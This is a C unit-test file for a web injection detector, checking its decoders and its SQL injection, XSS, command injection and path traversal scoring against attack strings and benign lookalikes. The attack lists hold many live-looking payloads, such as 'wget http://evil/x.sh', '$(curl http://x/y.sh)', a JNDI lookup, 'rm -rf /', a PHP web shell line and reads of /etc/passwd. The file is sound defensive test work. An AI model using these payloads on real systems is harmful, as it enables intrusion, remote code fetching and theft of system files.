/* Unit tests for the injection detector: each decoder, each tokeniser, the
 * verdict and the request splitter, with the tricky attack shapes found and
 * the benign lookalikes that must stay clean. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect_int.h"

static mm_detect_config_t cfg;
static uint8_t scratch_buf[1 << 16];
static mm_detect_scratch_t scratch = {scratch_buf, sizeof scratch_buf};

static mm_detect_class_t judge(const char *s)
{
    mm_detect_verdict_t v;
    assert_int_equal(mm_detect_value(&cfg, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
    return v.cls;
}

static const char *decode(const char *in, bool plus, unsigned *flags)
{
    static uint8_t a[4096], b[4096];
    static char out[4096];
    const uint8_t *res;
    *flags = 0;
    size_t n = mm_detect_decode((const uint8_t *)in, strlen(in), a, b, plus, 4, flags, &res);
    memcpy(out, res, n);
    out[n] = 0;
    return out;
}

static void test_decode_url(void **state)
{
    (void)state;
    unsigned f;
    assert_string_equal(decode("%3Cscript%3E", false, &f), "<script>");
    assert_true(f & MM_DETECT_DEC_URL);
    assert_string_equal(decode("%253Cx", false, &f), "<x");
    assert_true(f & MM_DETECT_DEC_URL_MULTI);
    assert_string_equal(decode("a+b", true, &f), "a b");
    assert_true(f & MM_DETECT_DEC_PLUS);
    assert_string_equal(decode("a+b", false, &f), "a+b");
    /* '+' decoded from %2B is not a space on the next pass. */
    assert_string_equal(decode("1%2B1", true, &f), "1+1");
    /* Invalid escapes stay as they are. */
    assert_string_equal(decode("100% sure %zz %", false, &f), "100% sure %zz %");
    assert_string_equal(decode("%u003cb", false, &f), "<b");
    assert_true(f & MM_DETECT_DEC_PCT_U);
    assert_string_equal(decode("a%00b", false, &f), "ab");
    assert_true(f & MM_DETECT_DEC_NUL);
}

static void test_decode_html(void **state)
{
    (void)state;
    unsigned f;
    assert_string_equal(decode("&lt;b&gt;", false, &f), "<b>");
    assert_true(f & MM_DETECT_DEC_HTML);
    assert_string_equal(decode("&#60;&#x3C;&#X3c;&#0000060", false, &f), "<<<<");
    assert_string_equal(decode("&ltscript", false, &f), "<script");
    assert_string_equal(decode("java&Tab;script&colon;", false, &f), "java\tscript:");
    /* Not references: left alone. */
    assert_string_equal(decode("AT&T R&D a=1&b=2 &copy", false, &f), "AT&T R&D a=1&b=2 &copy");
    assert_string_equal(decode("Tom &amp; Jerry", false, &f), "Tom & Jerry");
}

static void test_decode_escapes(void **state)
{
    (void)state;
    unsigned f;
    assert_string_equal(decode("\\x3cimg\\u003e\\u{2f}\\074", false, &f), "<img>/<");
    assert_true(f & MM_DETECT_DEC_ESCAPE);
    /* Windows paths keep their backslashes. */
    assert_string_equal(decode("C:\\Users\\me\\x.txt", false, &f), "C:\\Users\\me\\x.txt");
}

static void test_decode_utf8(void **state)
{
    (void)state;
    unsigned f;
    assert_string_equal(decode("%c0%ae%c0%ae%c0%af", false, &f), "../");
    assert_true(f & MM_DETECT_DEC_OVERLONG);
    assert_string_equal(decode("%e0%80%af", false, &f), "/");
    assert_string_equal(decode("%uff0e%uff0e%u2215", false, &f), "../");
    assert_true(f & MM_DETECT_DEC_FULLWIDTH);
    assert_string_equal(decode("%c0%5c", false, &f), "\\");
    /* Valid UTF-8 text is untouched. */
    assert_string_equal(decode("Shōgun – café", false, &f), "Shōgun – café");
    assert_int_equal(f & (MM_DETECT_DEC_OVERLONG | MM_DETECT_DEC_FULLWIDTH | MM_DETECT_DEC_INVISIBLE), 0);
    /* Invisible characters inside keywords are removed, however written. */
    assert_string_equal(decode("un%e2%80%8bion se\u200blect", false, &f), "union select");
    assert_true(f & MM_DETECT_DEC_INVISIBLE);
    assert_string_equal(decode("<%e2%80%aescript>", false, &f), "<script>");
    assert_string_equal(decode("in&shy;for&#xad;ma\xc2\xadtion\xef\xbb\xbf", false, &f), "information");
}

static void test_decode_never_grows(void **state)
{
    (void)state;
    static const char *const in[] = {"&#x10FFFF;", "\\u{10ffff}", "%uFFFF", "&nbsp", "&#1;", "\\u0000"};
    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
        uint8_t out[64];
        unsigned f = 0;
        bool ch;
        size_t n = mm_detect_decode_pass((const uint8_t *)in[i], strlen(in[i]), out, MM_DETECT_PASS_ALL, &f, &ch);
        assert_true(n <= strlen(in[i]));
    }
}

static int sqli(const char *s)
{
    mm_detect_hit_t h;
    unsigned f = 0;
    return mm_detect_sqli((const uint8_t *)s, strlen(s), &h, &f);
}

static void test_sqli_shapes(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "' or '1'='1", "admin'--", "admin' #", "1 or 1=1", "1' and 1=1 -- ",
        "-1 union all select null,version()--", "1; drop table users", "'; exec master..xp_cmdshell 'dir'--",
        "1 and sleep(5)", "' and extractvalue(1,concat(0x7e,version()))#", "1 AND 1=CONVERT(int,@@version)",
        "'; waitfor delay '0:0:5'--", "1' order by 3--", "x' into outfile '/tmp/x", "') or ('a'='a",
        "1 /*!50000union*/ /*!50000select*/ 1,2", "1)) or pg_sleep(5)--", "' || utl_inaddr.get_host_name((select user from dual)) || '",
        "(select 1 from information_schema.tables)", "HOPE AND -8=3", "select current_setting('hba_file')",
        "; insert into users (name) values ('x')", " ORDER BY 6--", "1' group by 1,2--",
        "{\"user\": {\"$ne\": null}}", "*)(|(mail=*))", "drop table users",
        /* A string closed, an expression of operators, the string reopened or commented out. */
        "zz'*qty-'5", "bob' or price^2!='", "x\" xor -3 rlike \"7", "ab' div total--", "k'|col!='",
        "q' is not \\N - '", "'XOR'", "n' / current_time regexp '1",
        /* A literal expression ended by a bare comment. */
        "7*3--", "@ver #", "( 'q' )  -- -", "(5)and(2)=(2)",
        /* Keywords cut by comments, set operators, conditionals, casts. */
        "5 un/**/ion se/**/lect 1,2", "intersect select 7,8", "BAR,IF(17=42,BAR,1/0)",
        "case 3 when 'q' then 4 end", "md5(session_user())", "2 and 5 not like 6",
        "3 order by if(2>1,a,b)", "substr(lo_get(99),1)::int", "-4 union #",
        "from `information_schema`.columns", "{\"$nor\": [1]}",
        /* EXEC of an extended procedure, a statement ended at the break, a
         * boolean then a parenthesised comparison. */
        "; exec xp_regread", "bob@example.org';", "OR (login = '", "x' and (pwd >", "'--sp_password", "or pid in (1,2)", "x' or nm like 'a%",
        "union select name from sys.sql_logins", "'='", "root'||'",
        "3 or least(4,5)=4", "4\xa0OR\xa0" "7=7", "FROM `acct` WHERE `acct`.`uid` = 7 LIMIT",
        /* A query-style value inside the value; a stacked SET of a variable. */
        "amt=||(k=!0)", "id=&&(nil==(", "q=or 7=7", "ref=; set @m = 1",
        /* A branch on constants; PL/SQL sleeps; UNION's MySQL modifier. */
        "9 or case when 3<4 then 1 else 0 end", "x'),(case when (5=5) then 'a' else null end",
        "4;begin dbms_lock.sleep(3); end", "4; BEGIN user_lock.sleep(3); END;", "7 union distinctrow select 1",
        "1 and sleep/**/(5)", "x' or sleep (5)--",
        /* Oracle 18c's sleep. */
        "(dbms_session.sleep(4))", "z' and DBMS_SESSION.SLEEP(9) is null--",
    };
    assert_true(mm_detect_sqli_index_ok());
    assert_true(mm_detect_xss_tables_ok());
    assert_true(mm_detect_path_tables_ok());
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        if (sqli(attacks[i]) < 50)
            fail_msg("missed sqli: %s", attacks[i]);
    }
}

static void test_sqli_lookalikes(void **state)
{
    (void)state;
    static const char *const benign[] = {
        "O'Brien", "Tom and Jerry", "rock'n'roll", "it's either all or nothing", "600 or 601",
        "\"foo\" AND \"bar\"", "select one from the menu", "Select your size", "I'd say 'order by' is fine",
        "1/4\"-1/2\" wide ribbon", "my--slugified-url", "#hashtag and more", "can't won't don't",
        "Bonnie and Clyde (1967)", "a < b and c > d", "https://example.com/guide#section=intro",
        "Union Jack", "drop the table cloth", "12.5 x 12.5\"", "Drop table tennis practice at 5",
        "SELECT your favourite: tea or coffee?", "x = y || z",
        "select one or more", "drop us a line", "meet at union station", "Tom's & Jerry's", "5'-10\" tall",
        "4' x 8' sheet", "rock 'n' roll", "\"Yes\" or \"No\"", "I said 'or else'", "10 -- 20",
        "page 1 -- intro", "he said \"hi\" - \"bye\"", "in case 1 when 's' then 2", "everything except select.",
        "std::string", "\"quote\" + \"unquote\"", "it's a 1-2-3 'thing'", "(a) or (b) = (c)",
        "{\"name\": \"O'Reilly\", \"qty\": 2}", "price: $5 & up; call 555-1234 -- ask for Bob",
        "36\" x 48\" frame", "Q: which is best? A: 'none'", "a 'b' c 'd' e",
        "Tom and (Jerry = cat)", "It's fine';", "x = 'a';", "execute the plan", "exec summary",
        "color=red", "q=and more", "a=1 or 2", "title=Tom and Jerry", "note=it's fine", "x || (y = 2)",
        "x=select one or more", "mode=drop us a line", "\"and\" / \"or\" / \"not\"", "'--' is an em dash substitute",
        "it's 'or' not 'and'", "he's 5'10\" and she's 5'4\"", "f'(x) = 2x", "a' + b' = c'", "Is 'x' = 'y'? No.",
        "it's 1 or 2 -- or maybe 3", "Choose \"Union\" or \"Intersection\"", "Dunkin' Donuts & Krispy Kreme",
        "or both in parallel, as here.", "or she is an owner of the work", "or something like that",
        "Python's sys.path and sys.exit()", "'--dry-run'.", "Add \"--avoid=lock\", because we",
        "voil\xc3\xa0 and more", "and I not between jobs", "from home where nothing is",
        "in case when the cache is cold then retry", "I need sleep (a lot)", "the benchmark (2019) shows", "case when x = y then z", "a || b's || c", "x = 'a' || 'b'", "r'BINARY-C-LONG|'", "outfile.write('<tt>')", "out.write('</em>')", "r'&main|&meta|&now|'", "and (self.x == other.x)", "or (self.style != '' and y)",
    };
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        if (sqli(benign[i]) >= 50)
            fail_msg("false sqli: %s (%d)", benign[i], sqli(benign[i]));
    }
}

static int xss(const char *s)
{
    mm_detect_hit_t h;
    return mm_detect_xss((const uint8_t *)s, strlen(s), &h);
}

static void test_xss_shapes(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "\"><svg onload=prompt(1)>", "<a href=\"java\tscript:alert(1)\">x</a>", "<iframe src=//evil>",
        "\" onmouseover=\"alert(1)", "';alert(String.fromCharCode(88,83,83))//", "<ScRiPt >x",
        "<div style=\"width:expression(alert(1))\">", "<object data=\"data:text/html,<script>\">",
        "javascript:alert(document.cookie)", "<x onclick=confirm`1`>", "<<script>alert(1);//<</script>",
        "<math><maction xlink:href=\"javascript:alert(1)\">", "alert(1)",
        /* External entities and schemas, links in MathML/SVG, JSFuck, sinks in templates. */
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><r>&e;</r>", "<!DOCTYPE q SYSTEM \"http://h/q.dtd\">",
        "<q xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:q http://h/q.xsd\">",
        "<math><b xlink:href=\"//h.example/p\">go", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]]",
        "`${ confirm }`", "(window/*c*/)['name']", "prompt\\`7\\`",
        /* Processing instructions that load behaviour; links to a host in octal, hex or one number. */
        "<?import namespace=\"q\" implementation=\"#default#x\">", "<?xml-stylesheet href=\"//h/s.xsl\"?>",
        "<a href=\"http://0177.0.0.01/\">x</a>", "<img src=http://2130706433/p.png>",
        "\" onpause=alert(1) x=\"", "' onwaiting=prompt(1) '", "\" onsuspend=confirm(2)",
        /* Internal DTDs and parameter entities, XInclude/XSLT namespaces, IE
         * namespaces, empty prefixes, escaped CSS calls, members past
         * comments, data: URLs and base64 markup as whole values. */
        "<!DOCTYPE r [ <!ELEMENT r ANY>", "x!ENTITY % p SYSTEM", "<q xmlns:xi=\"http://www.w3.org/2001/XInclude\">",
        "<?xml:namespace prefix=\"v\" ns=\"urn:x\">", "<:script src=//h/x.js>", "<p style=y:expression\\28f()\\29>",
        "window /* c */ . location", "data:image/svg+xml;base64,AAAA", "PHNjcmlwdD5mKCk8L3NjcmlwdD4=",
        /* Sinks called indirectly or assigned for a later call. */
        "prompt.apply(0,[2])", "eval.call(this,'x')", "(prompt)(3)", "confirm?.(4)", "alert\t(5)",
        "';q=confirm;q(6)//", "window?.['al'+'ert'](7)",
        /* Optional chaining after a script URL. */
        "javascript:self?.confirm?.(8)", "JavaScript:top?.prompt?.(9)",
    };
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        if (xss(attacks[i]) < 50)
            fail_msg("missed xss: %s", attacks[i]);
    }
}

static void test_xss_lookalikes(void **state)
{
    (void)state;
    static const char *const benign[] = {
        "a < b", "if x<3 and y>2", "<3 you", "<b>bold</b> and <i>it</i>", "online=yes",
        "the onion=tasty", "Javascript: The Good Parts", "I love <you>", "email <me@example.org>",
        "see the document. It helps", "<?xml version=\"1.0\"?><svg></svg>",
        "the log likelihood\"), because the logarithm is an increasing function.",
        "see (alert) for details", "<!DOCTYPE html>", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\">",
        "<!DOCTYPE html SYSTEM \"about:legacy-compat\">", "<math>x^2</math>", "[ ] ! ( ) checkboxes",
        "!!! [[ ]] (( )) !!!", "document (final) [v2]", "a <= b && c >= d", "<a href=\"https://example.org\">docs</a>",
        "<a href=\"http://192.168.0.1/\">router</a>", "<a href=\"https://example.com/2024/05\">news</a>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "the system is down!", "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
        "the document . see", "Please send PHOTOS", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", "data: text only",
        "onset=5", "once=2", "onward=1", "\" online=yes",
        "please confirm (by mail) your order", "alert level=alert; call us", "(alert) is a word",
        "to=fetch, from=store",
    };
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        if (xss(benign[i]) >= 50)
            fail_msg("false xss: %s (%d)", benign[i], xss(benign[i]));
    }
}

static int cmdi(const char *s)
{
    mm_detect_hit_t h;
    unsigned f = 0;
    return mm_detect_cmdi((const uint8_t *)s, strlen(s), &h, &f);
}

static void test_cmdi_shapes(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "; id", "| whoami", "&& cat /etc/passwd", "`uname -a`", "$(curl http://x/y.sh)",
        "127.0.0.1; ls -la", "a;w'h'o\"a\"mi", "cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd",
        "() { :;}; /bin/bash -c id", "\n/usr/bin/id", "| net user hacker P /add", "; sleep 5",
        "& ping -n 30 127.0.0.1 &", "cat /etc/hosts", "ls -l /home", "wget http://evil/x.sh",
        "FOR /F %a IN (x) DO echo", "IF EXIST c:\\x.txt echo", "';system('id');//", "<?php system($_GET['c']); ?>",
        "<!--#exec cmd=\"/bin/id\"-->", "${jndi:ldap://evil/a}", "{cat,/etc/passwd}", "/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?",
        "|| c:\\windows\\system32\\cmd.exe /c dir", "; powershell -enc AAA", "time curl example.org",
        /* Query-style assignments of a command, aliases, brace lists, SQLite's
         * .shell, version suffixes, switches written onto the name, $_ splices. */
        "cmd=uname -a", "alias k='wget'", "{,uname,-a}", ";.system id", "a | perl5.36 -e 1", "&vssadmin/q",
        ";w$_hoami", "; trap 'rm -f x' EXIT",
        /* A value opening with a separator then a command; $0 run as a
         * command; ${NAME:n:m} cutting a slash out of a variable. */
        ";echo owned", "&& set", ";ps ef", ";$0 -c uname", "${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id",
        "| sh", "&& whoami",
        /* ${NAME} run as a command, $"..." quoting, $? spliced, tool families,
         * IF CMDEXTVERSION, SQLite dot commands and '.', an unknown program
         * run with an option after a separator. */
        "${BASH} -c 'uname'", "{,$\"uname\",}", ";w$?ho$?ami", "; ansible-playbook", "if cmdextversion 2 goto x",
        ";\n.tables", "id;. rm -f x", ";zyxtool -q /tmp", "| frobctl --list",
        /* Command lines opening the value, with one plain word after a strong one. */
        "rm -rf /", "chmod -x secret", "sleep 9", "ls -la", "p`uname`q", "`uname -a`", "echo `id`", "; `id` ;",
    };
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        if (cmdi(attacks[i]) < 50)
            fail_msg("missed cmdi: %s (%d)", attacks[i], cmdi(attacks[i]));
    }
}

static void test_cmdi_lookalikes(void **state)
{
    (void)state;
    static const char *const benign[] = {
        "cats | dogs", "Tom && Jerry", "Salt & Pepper", "rock & roll", "Date & Time", "this | more",
        "I use curl daily", "Find the cat", "Python is great", "a=1&b=2&c=3", "foo|bar", ";environment",
        "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Firefox/24.0", "Q&A", "black & white",
        "If not now, when?", "for the record; who knows", "sleep well & dream", "echo chamber",
        "{\"a\":[{},{}]}", "Type the words", "Time - the movie", "I'd; later", "don't | won't",
        "CD1 & CD2", "PS/2 keyboard", "mouse & ps/2", "blu-ray & cd/dvd", "sort=date -1", "{a,b,c}",
        "the set {1,2,3} is finite", "python3.11 is out", "gcc 7.4 release notes", "alias: John Smith",
        "\"rm\" is short for remove", "if you read this; cat lovers unite", "Tom & Jerry; Wile E. Coyote",
        "drop us a line & we'll reply", "union station | platform 2", "select one or more; then submit",
        "Lua & Python", "Java; Python; Ruby", "C++ & Perl", "I like Python & SSH", "| Date | Amount |",
        "| Echo | Delta |", "rock & roll; sleep well", "cats & dogs -pets", "{\"a\",\"b\"}",
        "{\"a\":\"b\",\"c\":1}", "x || y", "Wait... ok; sure", "Mr. Smith; Dr. Jones", "${price} per unit",
        "rm -rf is dangerous", "ls -la to see hidden files", "last 7 days", "ping example.com to check it",
        "Copy ../notes.txt to the docs folder", "Run `make && make install` to build it.",
        "use `whoami` to see your user", "top 10 tips & tricks", "$100 & $200", "$5; $0 off", "cd .. to go up", "r'mm[0-7]|cr[0-4]|tr[3-7]|k[0-7]'",
        "Expose 'SEEK_{SET,CUR,END}'", "fixed a crash in `mandb -f` today", "see `frobd --system` docs",
        "* **Run** `make install` to install", "`man -l foo.1` decompresses it", "the ``test`` command",
        "If you can't use `make`, run the script", "* Add $(MAKE) check to the build",
        "<time>2008-07-31T12:16:37Z</time>", "add hook for `make check'", ":rst:dir:`note` type can wrap",
        "from home where nothing is",
        /* Markdown code spans ending a sentence, in a list, left open at
         * the end; variables named in prose; ordinary words after a
         * command; an aside in parentheses; a phrase with a colon. */
        "prefer the new flag over `tar -x`", "we use `cat`,`tail`, `head` and friends",
        "the docs of this option are in `man", "keep it in `$XDG_CONFIG_HOME/app` for now",
        "when `$PATH` is empty", "Make room/space more quickly", "test 42 (beta) went well and",
        "wget problems: https://example.org/faq", "frame 3 (self=0x1, n=2) at /src/app/main.c:10",
    };
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        if (cmdi(benign[i]) >= 50)
            fail_msg("false cmdi: %s (%d)", benign[i], cmdi(benign[i]));
    }
}

static int trav(const char *s)
{
    mm_detect_hit_t h;
    return mm_detect_traversal((const uint8_t *)s, strlen(s), &h);
}

static void test_traversal_shapes(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/../../etc/shadow", "....//....//etc/passwd",
        "..;/..;/WEB-INF/web.xml", "file:///etc/passwd", "/etc/passwd", "C:\\boot.ini", "../boot.ini",
        "page=../../../x", "0x2e0x2e/0x2e0x2e/etc", "..%9v..%9v..%9vboot.ini", "a/b/../../../c",
        "php://filter/convert.base64-encode/resource=index", "x%qfetc%qfpasswd",
        /* One climb to a secret-holding file; a name glued after a target (a
         * removed NUL); "2f" for a slash after a dot-dot; junk separators
         * that decoded to control bytes or letters; spelled 0x2f alone. */
        "../db/settings.bak", "../site/local_config.php", "../../etc/shadowfoo.txt", "..2fvar2flog2fauth.log",
        "^^\x1cwinnt\x1csystem32\x1c" "config", "..q..qwin.ini", "0x2fetc0x2fshadow",
        "expect://id", "data://text/plain;base64,AAAA", "../WEB-INF/web.xml", "..;/WEB-INF/classes/x",
    };
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        if (trav(attacks[i]) < 50)
            fail_msg("missed traversal: %s (%d)", attacks[i], trav(attacks[i]));
    }
}

static void test_traversal_lookalikes(void **state)
{
    (void)state;
    static const char *const benign[] = {
        "see ../docs for details", "Wait... what... no...", "/files/bingerpc.py", "/blog/tags/site?page=3",
        "v1.2..v1.3", "Hmm.. ok.. sure..", "etc. passwords are secret", "a/b/../c",
        "../images/logo.png", "see ../ for config.ini", "the file config.ini is in ../", "edit php.ini and restart",
        "my .env file", "../index.html", "hmm..2fast", "../docs/install guide", "wait... 2f is hex",
        "go up one level (../) and read README.md", ".../tests/files/cacert-trusted.pem",
    };
    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
        if (trav(benign[i]) >= 50)
            fail_msg("false traversal: %s (%d)", benign[i], trav(benign[i]));
    }
}

static void test_verdict(void **state)
{
    (void)state;
    mm_detect_verdict_t v;
    const char *s = "1%27%20or%20%271%27%3D%271";
    assert_int_equal(mm_detect_value(&cfg, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
    assert_int_equal(v.cls, MM_DETECT_SQLI);
    assert_true(v.score >= cfg.threshold);
    assert_true(v.decodings & MM_DETECT_DEC_URL);
    assert_non_null(strstr(v.evidence, "sqli rule="));
    assert_non_null(strstr(v.evidence, "decoded=url"));
    assert_non_null(strstr(v.fragment, "or '1'='1"));
    assert_int_equal(judge("%3Cscript%3Ealert(1)%3C/script%3E"), MM_DETECT_XSS);
    assert_int_equal(judge("; cat /etc/passwd"), MM_DETECT_CMDI);
    assert_int_equal(judge("..%2f..%2f..%2fetc%2fpasswd"), MM_DETECT_TRAVERSAL);
    assert_int_equal(judge("hello world"), MM_DETECT_NONE);
    assert_int_equal(judge(""), MM_DETECT_NONE);

    /* Sensitivity 0 skips a location; a higher threshold lets a value pass. */
    mm_detect_config_t c2 = cfg;
    c2.sensitivity[MM_DETECT_LOC_HEADER] = 0;
    assert_int_equal(mm_detect_value(&c2, s, strlen(s), MM_DETECT_LOC_HEADER, NULL, &scratch, &v), 0);
    assert_int_equal(v.cls, MM_DETECT_NONE);
    c2 = cfg;
    c2.threshold = 101;
    assert_int_equal(mm_detect_value(&c2, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
    assert_int_equal(v.cls, MM_DETECT_NONE);
    assert_true(v.score > 0);
    c2 = cfg;
    c2.enabled[MM_DETECT_SQLI] = false;
    assert_int_equal(mm_detect_value(&c2, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &scratch, &v), 0);
    assert_int_equal(v.scores[MM_DETECT_SQLI], 0);

    /* Errors and limits. */
    assert_int_equal(mm_detect_value(NULL, s, 1, MM_DETECT_LOC_QUERY, NULL, &scratch, &v), -EINVAL);
    uint8_t tiny[16];
    mm_detect_scratch_t small = {tiny, sizeof tiny};
    assert_int_equal(mm_detect_value(&cfg, s, 1, MM_DETECT_LOC_QUERY, NULL, &small, &v), -ENOBUFS);
    uint8_t mid[164];
    mm_detect_scratch_t half = {mid, sizeof mid};
    assert_int_equal(mm_detect_value(&cfg, s, strlen(s), MM_DETECT_LOC_QUERY, NULL, &half, &v), 0);
    assert_int_equal(v.inspected, strlen(s));
    char big[400];
    memset(big, 'a', sizeof big);
    assert_int_equal(mm_detect_value(&cfg, big, sizeof big, MM_DETECT_LOC_QUERY, NULL, &half, &v), 0);
    assert_true(v.truncated);
    assert_int_equal(v.inspected, 50);

    char buf[128];
    assert_string_equal(mm_detect_decodings_str(0, buf, sizeof buf), "none");
    assert_string_equal(mm_detect_decodings_str(MM_DETECT_DEC_URL | MM_DETECT_DEC_HTML, buf, sizeof buf), "url,html");
    assert_string_equal(mm_detect_class_name(MM_DETECT_TRAVERSAL), "traversal");
    assert_string_equal(mm_detect_loc_name(MM_DETECT_LOC_JSON), "json");
}

static void test_request(void **state)
{
    (void)state;
    static uint8_t sbuf[1 << 16];
    mm_detect_scratch_t sc = {sbuf, sizeof sbuf};
    const char *body = "{\"user\":{\"name\":\"O'Brien\",\"tags\":[\"a\",\"<img src=x onerror=alert(1)>\"]},"
                       "\"q\":\"1\\u0027 or \\u00271\\u0027=\\u00271\",\"n\":12}";
    mm_detect_header_t hd[] = {
        {"Content-Type", 12, "application/json", 16},
        {"User-Agent", 10, "() { :;}; /bin/bash -c id", 25},
        {"Cookie", 6, "sid=abc; pref=..%2f..%2f..%2fetc%2fpasswd", 41},
        {"Accept", 6, "<script>", 8},
    };
    mm_detect_request_t rq = {0};
    rq.target = "/shop/items?page=2&sort=name&q=cats+%7C+dogs&id=1%20union%20select%201,2#frag";
    rq.target_len = strlen(rq.target);
    rq.headers = hd;
    rq.n_headers = 4;
    rq.body = body;
    rq.body_len = strlen(body);
    mm_detect_finding_t f[8];
    size_t nf, nv;
    mm_detect_verdict_t worst;
    assert_int_equal(mm_detect_request(&cfg, &rq, &sc, f, 8, &nf, &nv, &worst), 0);
    assert_int_equal(nf, 5);
    assert_int_equal(f[0].loc, MM_DETECT_LOC_QUERY);
    assert_int_equal(f[0].verdict.cls, MM_DETECT_SQLI);
    assert_int_equal(f[0].name_len, 2);
    assert_memory_equal(f[0].name, "id", 2);
    assert_int_equal(f[1].loc, MM_DETECT_LOC_HEADER);
    assert_int_equal(f[1].verdict.cls, MM_DETECT_CMDI);
    assert_int_equal(f[2].loc, MM_DETECT_LOC_COOKIE);
    assert_int_equal(f[2].verdict.cls, MM_DETECT_TRAVERSAL);
    assert_int_equal(f[3].loc, MM_DETECT_LOC_JSON);
    assert_int_equal(f[3].verdict.cls, MM_DETECT_XSS);
    assert_int_equal(f[4].loc, MM_DETECT_LOC_JSON);
    assert_int_equal(f[4].verdict.cls, MM_DETECT_SQLI);
    assert_true(f[4].verdict.decodings & MM_DETECT_DEC_JSON);
    assert_true(worst.score >= 75);
    /* path, 4 query values, UA, 2 cookies, 6 JSON strings ("a" too) */
    assert_true(nv >= 12);

    /* Forms and multipart. */
    const char *form = "a=1&b=%3Csvg%2Fonload%3Dalert(1)%3E";
    mm_detect_header_t fh[] = {{"content-type", 12, "application/x-www-form-urlencoded", 33}};
    mm_detect_request_t fr = {.target = "/", .target_len = 1, .headers = fh, .n_headers = 1,
                              .body = form, .body_len = strlen(form)};
    assert_int_equal(mm_detect_request(&cfg, &fr, &sc, f, 8, &nf, &nv, NULL), 0);
    assert_int_equal(nf, 1);
    assert_int_equal(f[0].loc, MM_DETECT_LOC_FORM);
    const char *mp = "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n; cat /etc/passwd\r\n"
                     "--XyZ\r\nContent-Disposition: form-data; name=\"ok\"\r\n\r\nhello\r\n--XyZ--\r\n";
    mm_detect_request_t mr = {.target = "/up", .target_len = 3, .body = mp, .body_len = strlen(mp),
                              .content_type = "multipart/form-data; boundary=XyZ"};
    assert_int_equal(mm_detect_request(&cfg, &mr, &sc, f, 8, &nf, &nv, NULL), 0);
    assert_int_equal(nf, 1);
    assert_int_equal(f[0].verdict.cls, MM_DETECT_CMDI);
    assert_memory_equal(f[0].name, "cmd", 3);

    /* JSON that stops being JSON: the rest is judged whole, nothing twice. */
    const char *broken = "{\"a\":\"1' or '1'='1\", <script>alert(1)</script>";
    mm_detect_request_t br = {.target = "/j", .target_len = 2, .body = broken, .body_len = strlen(broken),
                              .content_type = "application/json"};
    assert_int_equal(mm_detect_request(&cfg, &br, &sc, f, 8, &nf, &nv, NULL), 0);
    assert_int_equal(nf, 2);
    assert_int_equal(f[0].loc, MM_DETECT_LOC_JSON);
    assert_int_equal(f[0].verdict.cls, MM_DETECT_SQLI);
    assert_int_equal(f[1].loc, MM_DETECT_LOC_BODY);
    assert_int_equal(f[1].verdict.cls, MM_DETECT_XSS);

    /* Findings beyond max are counted, not written. */
    assert_int_equal(mm_detect_request(&cfg, &rq, &sc, f, 1, &nf, &nv, NULL), 0);
    assert_int_equal(nf, 5);
    assert_int_equal(mm_detect_request(&cfg, NULL, &sc, f, 1, &nf, &nv, NULL), -EINVAL);
}

/* Reads a corpus file from ../shared when present and checks the detector
 * catches most of it; skipped (by name) when the shared directory is absent. */
static void test_shared_corpus(void **state)
{
    (void)state;
    const char *dir = getenv("MM_SHARED_DIR");
    char path[4096];
    snprintf(path, sizeof path, "%s/security-corpus/sqli.txt", dir ? dir : "../shared");
    FILE *fp = fopen(path, "r");
    if (!fp) {
        print_message("skipped test_shared_corpus: %s not found\n", path);
        skip();
    }
    char line[4096];
    size_t n = 0, hit = 0;
    while (fgets(line, sizeof line, fp)) {
        line[strcspn(line, "\n")] = 0;
        if (!line[0])
            continue;
        n++;
        hit += judge(line) != MM_DETECT_NONE;
    }
    fclose(fp);
    assert_true(n > 0);
    assert_true(hit * 100 >= n * 80);
}

/* Large values are judged whole: an attack at the end of 1 MiB of benign
 * text is found, a nested encoding deep inside is decoded as in a short
 * value, and no tokeniser scores above the bound the verdict relies on. */
static void test_large_values(void **state)
{
    (void)state;
    static const char *const attacks[] = {
        "x' union select password from users--", "<img src=x onerror=alert(1)>",
        "; cat /etc/passwd", "../../../../etc/passwd",
    };
    static const mm_detect_class_t cls[] = {MM_DETECT_SQLI, MM_DETECT_XSS, MM_DETECT_CMDI, MM_DETECT_TRAVERSAL};
    static const char filler[] = "It's O'Brien & Sons' \"best\" offer, well.. x<y and Q&A (really) ";
    size_t big = 1u << 20;
